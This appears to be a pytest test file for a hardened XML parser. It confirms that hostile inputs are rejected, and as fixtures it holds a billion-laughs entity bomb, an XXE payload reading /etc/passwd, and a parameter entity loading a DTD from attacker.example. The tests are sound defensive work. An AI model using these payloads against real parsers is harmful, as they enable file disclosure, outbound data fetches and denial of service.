"""Hardened XML parsing (formats.safe_xml): hostile payloads must be refused."""

import pytest

from ..formats.errors import ParseError
from ..formats.safe_xml import local_name
from ..formats.safe_xml import parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice><ID>&xxe;</ID></Invoice>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>
<r/>"""


def _code(payload, **kwargs):
    with pytest.raises(ParseError) as exc:
        parse_xml(payload, **kwargs)
    return exc.value.code


def test_plain_document():
    root = parse_xml(b'<?xml version="1.0"?><a xmlns="urn:x"><b>1</b><!-- c --></a>')
    assert local_name(root) == "a" and len(root) == 1  # comments removed


def test_billion_laughs_refused():
    assert _code(BILLION_LAUGHS) == "xml_forbidden"


def test_external_entity_file_refused():
    assert _code(XXE_FILE) == "xml_forbidden"
    # even when the caller tolerates an external DOCTYPE of that name
    assert _code(XXE_FILE, allowed_doctypes=("Invoice",)) == "xml_forbidden"


def test_parameter_entity_refused():
    assert _code(XXE_PARAMETER) == "xml_forbidden"


def test_utf16_encoded_entity_declaration_refused():
    payload = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode(
            "utf-16"
        )
    )
    assert _code(payload) == "xml_forbidden"


def test_doctype_refused_unless_allowed_external_reference():
    cxml = b'<?xml version="1.0"?><!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd"><cXML/>'
    assert _code(cxml) == "xml_forbidden"
    assert parse_xml(cxml, allowed_doctypes=("cXML",)).tag == "cXML"
    other = b'<!DOCTYPE Invoice SYSTEM "x.dtd"><Invoice/>'
    assert _code(other, allowed_doctypes=("cXML",)) == "xml_forbidden"


def test_undeclared_entity_reference_refused():
    payload = b'<!DOCTYPE cXML SYSTEM "cXML.dtd"><cXML>&secret;</cXML>'
    assert _code(payload, allowed_doctypes=("cXML",)) == "xml_forbidden"


def test_oversized_payload_refused_before_parsing():
    payload = b"<a>" + b"x" * 2048 + b"</a>"
    assert _code(payload, max_bytes=1024) == "xml_too_large"
    assert parse_xml(payload, max_bytes=4096).tag == "a"


@pytest.mark.parametrize(
    "payload", [b"", b"   ", b"<a><b></a>", b"not xml", b"<a>&undefined;</a>", b"<a/><b/>"]
)
def test_malformed_is_syntax_error(payload):
    assert _code(payload) == "xml_syntax"


def test_deep_nesting_refused_by_libxml2_limits():
    depth = 5000
    payload = b"<a>" * depth + b"</a>" * depth
    assert _code(payload) == "xml_syntax"


def test_error_carries_line():
    with pytest.raises(ParseError) as exc:
        parse_xml(b"<a>\n<b>\n</a>")
    assert exc.value.path and exc.value.path.startswith("line ")
